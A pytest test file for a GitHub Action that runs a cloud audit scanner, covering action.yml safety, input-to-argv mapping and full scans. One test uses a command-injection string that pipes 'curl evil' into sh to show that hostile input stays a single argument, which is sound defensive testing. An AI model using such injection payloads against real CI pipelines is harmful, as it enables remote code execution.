"""The GitHub Action: action.yml's shape and safety, the input -> argv mapping, and a full run."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from checker import action
from checker.action import ActionInputs, build_scan_argv, env_name, read_inputs, write_outputs
from checker.errors import InputError
from checker.findings import Finding, RuleInfo, severity_rank
from checker.report.document import report_json
from checker.report.model import Inputs, Report
from checker.report.waivers import load_waivers
from tests.helpers.cli import read_findings_document
from tests.helpers.data import ESTATE, EXAMPLES, REPO, SCHEMAS, data_file

ACTION_YML = REPO / "action.yml"


def action_metadata() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(ACTION_YML.read_text(encoding="utf-8"))
    return data


def scan_step() -> dict[str, Any]:
    step: dict[str, Any] = next(s for s in action_metadata()["runs"]["steps"] if s.get("id") == "scan")
    return step


def read_outputs(path: Path) -> dict[str, str]:
    """Parse a $GITHUB_OUTPUT file the way the runner does (name=value and name<<DELIM forms)."""
    outputs: dict[str, str] = {}
    lines = iter(path.read_text(encoding="utf-8").splitlines())
    for line in lines:
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delimiter = line.split("<<", 1)
            value = []
            for body in lines:
                if body == delimiter:
                    break
                value.append(body)
            outputs[name] = "\n".join(value)
        else:
            name, value_text = line.split("=", 1)
            outputs[name] = value_text
    return outputs


# action.yml ----------------------------------------------------------------------------------

def test_action_yml_is_valid_action_metadata() -> None:
    schema = json.loads(data_file(SCHEMAS, "github-action.json").read_text(encoding="utf-8"))
    jsonschema.Draft7Validator(schema).validate(action_metadata())
    assert action_metadata()["runs"]["using"] == "composite"


def test_no_expression_is_spliced_into_a_shell_script() -> None:
    for step in action_metadata()["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), step.get("name")


def test_every_input_reaches_the_scan_step_as_an_environment_variable() -> None:
    declared = action_metadata()["inputs"]
    assert set(declared) == set(action.INPUT_NAMES)
    env = scan_step()["env"]
    assert env == {env_name(name): f"${{{{ inputs.{name} }}}}" for name in declared}


def test_action_yml_defaults_are_the_entry_points_defaults() -> None:
    defaults = {env_name(name): spec.get("default", "") for name, spec in action_metadata()["inputs"].items()}
    assert read_inputs(defaults) == ActionInputs()
    assert read_inputs({}) == ActionInputs()


def test_outputs_come_from_the_scan_step() -> None:
    outputs = action_metadata()["outputs"]
    assert {"failed-count", "findings-json", "sarif-file"} <= set(outputs)
    for name, spec in outputs.items():
        assert spec["value"] == f"${{{{ steps.scan.outputs.{name} }}}}"


def test_sarif_upload_is_optional_and_the_last_step_applies_the_exit_code() -> None:
    steps = action_metadata()["runs"]["steps"]
    upload = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/upload-sarif@"))
    assert "inputs.upload-sarif == 'true'" in upload["if"]
    assert upload["with"]["sarif_file"] == "${{ steps.scan.outputs.sarif-file }}"
    assert steps[-1]["env"]["SCAN_EXIT_CODE"] == "${{ steps.scan.outputs.exit-code }}"
    assert "exit" in steps[-1]["run"]


# Inputs -> argv ------------------------------------------------------------------------------

def test_inputs_parse_lists_and_booleans() -> None:
    inputs = read_inputs({
        "INPUT_EVENTS": "events/a.json\ns3://audit-logs/AWSLogs/ , lookup",
        "INPUT_POLICIES": "policies/org\n\npolicies/extra\n",
        "INPUT_ORG": "True",
        "INPUT_REGIONS": "us-east-1, eu-west-1",
        "INPUT_UPLOAD_SARIF": "false",
        "INPUT_FAIL_ON": " medium ",
    })
    assert inputs.events == ("events/a.json", "s3://audit-logs/AWSLogs/", "lookup")
    assert inputs.policies == ("policies/org", "policies/extra")
    assert inputs.org is True and inputs.upload_sarif is False
    assert inputs.regions == ("us-east-1", "eu-west-1")
    assert inputs.fail_on == "medium"


def test_a_boolean_that_is_not_true_or_false_is_an_input_error() -> None:
    with pytest.raises(InputError) as raised:
        read_inputs({"INPUT_UPLOAD_SARIF": "yes"})
    assert raised.value.where == "input 'upload-sarif'"


def test_argv_for_a_snapshot_gate() -> None:
    argv = build_scan_argv(ActionInputs(snapshot="snapshots/estate.json", waivers="waivers.yaml"))
    assert argv == ["scan", "--snapshot", "snapshots/estate.json", "--waivers", "waivers.yaml",
                    "--format", "sarif,md,json", "--output-dir", "reports", "--fail-on", "high"]


def test_argv_for_an_organization_scan() -> None:
    inputs = ActionInputs(events=("lookup",), policies=("p1", "p2"), org=True, role_name="trailcheck-audit",
                          regions=("us-east-1", "eu-west-1"), fail_on="critical", formats=("html", "csv"),
                          output_dir="out", baseline="baseline/findings.json", upload_sarif=False)
    assert build_scan_argv(inputs) == [
        "scan", "--events", "lookup", "--policies", "p1", "--policies", "p2", "--org",
        "--role-name", "trailcheck-audit", "--regions", "us-east-1,eu-west-1",
        "--baseline", "baseline/findings.json",
        "--format", "html,csv,json,md", "--output-dir", "out", "--fail-on", "critical"]


def test_a_hostile_input_stays_one_argument() -> None:
    hostile = 'x.json"; curl evil | sh; echo "'
    argv = build_scan_argv(read_inputs({"INPUT_SNAPSHOT": hostile}))
    assert argv[1:3] == ["--snapshot", hostile]


def test_outputs_file_uses_delimiters_so_a_value_cannot_inject_an_output(tmp_path: Path) -> None:
    path = tmp_path / "github_output"
    path.write_text("earlier=1\n", encoding="utf-8")
    write_outputs(path, {"findings-json": "reports/findings.json\nfailed-count=0", "failed-count": "7"})
    assert read_outputs(path) == {"earlier": "1", "findings-json": "reports/findings.json\nfailed-count=0",
                                  "failed-count": "7"}


# The entry point, with the scan replaced --------------------------------------------------------

def fake_scan(output_dir: Path, code: int, findings: list[Finding]) -> Callable[[list[str]], int]:
    """A stand-in for ``trailcheck scan`` that writes the report files and returns ``code``."""
    def run(argv: list[str]) -> int:
        output_dir.mkdir(parents=True, exist_ok=True)
        rules = {f.rule_id: RuleInfo(id=f.rule_id, title="t", severity=f.severity) for f in findings}
        report = Report(findings=tuple(findings), rules=rules, inputs=Inputs(), generated_at="2026-11-20T02:00:00Z")
        (output_dir / "findings.json").write_text(report_json(report), encoding="utf-8")
        (output_dir / "findings.sarif").write_text("{}", encoding="utf-8")
        return code
    return run


@pytest.fixture
def runner_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    output, summary = tmp_path / "github_output", tmp_path / "step_summary"
    output.touch()
    summary.write_text("earlier step\n", encoding="utf-8")
    monkeypatch.setenv("GITHUB_OUTPUT", str(output))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    for name in action.INPUT_NAMES:
        monkeypatch.delenv(env_name(name), raising=False)
    return output, summary


def test_entry_point_publishes_outputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   runner_files: tuple[Path, Path]) -> None:
    output, summary = runner_files
    reports = tmp_path / "reports"
    findings = [Finding(rule_id=f"rule-{status}", severity="low", status=status,
                        account_id="222222222222", region=None, resource=None, message="m")
                for status in ("fail", "error", "pass", "waived")]
    monkeypatch.setattr(action, "run_scan", fake_scan(reports, 1, findings))
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(reports))
    assert action.main() == 1
    assert read_outputs(output) == {"failed-count": "2", "findings-json": str(reports / "findings.json"),
                                    "sarif-file": str(reports / "findings.sarif")}
    assert summary.read_text(encoding="utf-8") == "earlier step\n"  # the scan writes it, not the action


def test_entry_point_publishes_nothing_after_bad_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       runner_files: tuple[Path, Path]) -> None:
    output, summary = runner_files
    reports = tmp_path / "reports"
    monkeypatch.setattr(action, "run_scan", fake_scan(reports, 2, []))
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(reports))
    assert action.main() == 2
    assert output.read_text(encoding="utf-8") == ""
    assert summary.read_text(encoding="utf-8") == "earlier step\n"


def test_entry_point_rejects_a_bad_input_before_scanning(monkeypatch: pytest.MonkeyPatch,
                                                         runner_files: tuple[Path, Path],
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    def must_not_run(argv: list[str]) -> int:
        raise AssertionError("scan ran")

    monkeypatch.setattr(action, "run_scan", must_not_run)
    monkeypatch.setenv("INPUT_ORG", "maybe")
    assert action.main() == 2
    assert "input 'org'" in capsys.readouterr().err


# The real scan on the demo estate --------------------------------------------------------------

def test_scan_takes_every_option_the_action_passes(capsys: pytest.CaptureFixture[str]) -> None:
    """Each flag ``build_scan_argv`` can emit is one ``trailcheck scan`` accepts."""
    inputs = ActionInputs(snapshot="s.json", events=("e",), policies=("p",), org=True, role_name="r",
                          regions=("us-east-1",), waivers="w.yaml", baseline="b.json")
    flags = {arg for arg in build_scan_argv(inputs) if arg.startswith("--")}
    assert action.run_scan(["scan", "--help"]) == 0
    usage = capsys.readouterr().out
    assert {flag for flag in flags if not re.search(rf"{re.escape(flag)}\b", usage)} == set()


def expected_exit_code(findings: list[dict[str, Any]], fail_on: str) -> int:
    """1 for any error, or any fail at or above --fail-on; else 0."""
    blocking = [f for f in findings if f["status"] == "error"
                or (f["status"] == "fail" and severity_rank(f["severity"]) <= severity_rank(fail_on))]
    return 1 if blocking else 0


@pytest.mark.parametrize("fail_on", ["high", "info"])
def test_action_on_the_demo_estate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                   runner_files: tuple[Path, Path], fail_on: str) -> None:
    output, summary = runner_files
    reports = tmp_path / "reports"
    monkeypatch.setenv("INPUT_SNAPSHOT", str(ESTATE))
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(reports))
    monkeypatch.setenv("INPUT_FAIL_ON", fail_on)

    code = action.main()

    data = read_findings_document(reports / "findings.json")
    assert code == expected_exit_code(data["findings"], fail_on)
    outputs = read_outputs(output)
    failing = [f for f in data["findings"] if f["status"] in ("fail", "error")]
    assert failing, "the demo estate fails somewhere by design"
    assert outputs["failed-count"] == str(len(failing))
    assert outputs["findings-json"] == str(reports / "findings.json")
    assert outputs["sarif-file"] == str(reports / "findings.sarif")
    assert json.loads(Path(outputs["sarif-file"]).read_text(encoding="utf-8"))["version"] == "2.1.0"
    markdown = (reports / "findings.md").read_text(encoding="utf-8")
    assert summary.read_text(encoding="utf-8").strip() == ("earlier step\n" + markdown).strip()


def test_action_with_waivers_and_baseline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                          runner_files: tuple[Path, Path]) -> None:
    reports, previous = tmp_path / "reports", tmp_path / "previous"
    monkeypatch.setenv("INPUT_SNAPSHOT", str(ESTATE))
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(previous))
    assert action.main() in (0, 1)
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(reports))
    monkeypatch.setenv("INPUT_WAIVERS", str(EXAMPLES / "waivers.yaml"))
    monkeypatch.setenv("INPUT_BASELINE", str(previous / "findings.json"))
    shutil.rmtree(reports, ignore_errors=True)

    assert action.main() in (0, 1)

    data = read_findings_document(reports / "findings.json")
    waivers = load_waivers(EXAMPLES / "waivers.yaml").waivers
    expired = sorted(w.source for w in waivers if w.is_expired(date.today()))
    assert "log-file-validation" in {w.rule_id for w in waivers if w.is_expired(date.today())}
    assert sorted(w["source"] for w in data["waivers"]["expired"]) == expired
    waived = [f for f in data["findings"] if f["status"] == "waived"]
    assert len(waived) >= len(waivers) - len(expired)  # every valid example waiver matches a failure
    assert all(f["evidence"]["waiver"]["owner"] for f in waived)
    assert data["baseline"]["new"] == []
    assert {f["fingerprint"] for f in data["baseline"]["resolved"]} == {f["fingerprint"] for f in waived}


def test_action_with_a_missing_snapshot_exits_2_and_publishes_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, runner_files: tuple[Path, Path],
        capsys: pytest.CaptureFixture[str]) -> None:
    output, summary = runner_files
    monkeypatch.setenv("INPUT_SNAPSHOT", str(tmp_path / "absent.json"))
    monkeypatch.setenv("INPUT_OUTPUT_DIR", str(tmp_path / "reports"))
    assert action.main() == 2
    assert "absent.json" in capsys.readouterr().err
    assert output.read_text(encoding="utf-8") == ""
    assert summary.read_text(encoding="utf-8") == "earlier step\n"


# docs/github-action.md -----------------------------------------------------------------------

def documented_workflows() -> list[dict[str, Any]]:
    text = (REPO / "docs" / "github-action.md").read_text(encoding="utf-8")
    return [yaml.safe_load(block) for block in re.findall(r"```yaml\n(.*?)```", text, flags=re.DOTALL)]


def test_documented_workflows_use_only_declared_inputs_and_grant_what_they_need() -> None:
    workflows = documented_workflows()
    assert len(workflows) == 3
    declared = set(action_metadata()["inputs"])
    for workflow in workflows:
        steps = [s for job in workflow["jobs"].values() for s in job["steps"]]
        ours = [s for s in steps if s.get("uses", "").startswith("your-org/trailcheck@")]
        assert len(ours) == 1
        assert set(ours[0]["with"]) <= declared
    pr_gate, nightly, code_gate = workflows
    assert pr_gate["permissions"]["security-events"] == "write"
    assert code_gate["permissions"]["security-events"] == "write"
    code_steps = code_gate["jobs"]["plan-and-check"]["steps"]
    assert any("terraform show -json plan.out > plan.json" in s.get("run", "") for s in code_steps)
    assert next(s for s in code_steps if s.get("id") == "trailcheck")["with"]["terraform-plan"] == "infra/plan.json"
    assert nightly["permissions"]["id-token"] == "write"
    assert any(s.get("uses", "").startswith("aws-actions/configure-aws-credentials@")
               and "role-to-assume" in s["with"] for s in nightly["jobs"]["scan"]["steps"])
